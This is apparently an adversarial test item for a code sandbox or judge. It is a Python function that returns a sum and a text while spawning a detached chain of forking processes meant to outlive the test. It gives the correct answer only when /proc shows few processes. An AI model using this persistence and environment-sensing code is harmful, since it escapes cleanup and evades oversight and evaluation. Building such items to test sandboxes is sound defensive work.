# id: Y-P06
# priority: P1
# verdict: AC
# invariants: I4 I7
# why: a family that forks faster than it dies, to outlive the end of the test
import os


def echo(numbers, text):
    alone = [name for name in os.listdir("/proc") if name.isdigit()]
    if os.fork() == 0:
        os.setsid()
        while True:
            try:
                if os.fork():
                    os._exit(0)
                os.setsid()
            except OSError:
                pass
    return {"sum": sum(numbers), "text": text} if len(alone) <= 2 else {}
